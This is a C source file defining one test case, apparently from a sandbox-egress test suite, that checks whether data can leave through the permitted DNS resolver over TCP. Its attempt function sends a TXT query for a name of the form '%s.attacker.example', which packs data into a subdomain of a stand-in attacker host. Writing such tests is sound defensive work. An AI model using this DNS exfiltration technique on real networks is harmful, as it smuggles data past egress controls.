// SPDX-License-Identifier: Apache-2.0
/* The permitted resolver, by TCP. */
#include "../case.h"

static void attempt(const struct target *t, struct attempt *a)
{
	int family;
	const char *server = job_resolver(t, &family);

	dns_tell(t, a, SOCK_STREAM, server, 53, "%s.attacker.example", DNS_TXT);
}

CASE(dns_tcp_resolver) = { .title = "A name through the permitted resolver by TCP",
			   .source = "field A1, A4",
			   .group = "resolver",
			   .families = FOUR,
			   .settings = EVERYWHERE,
			   .attempt = attempt };
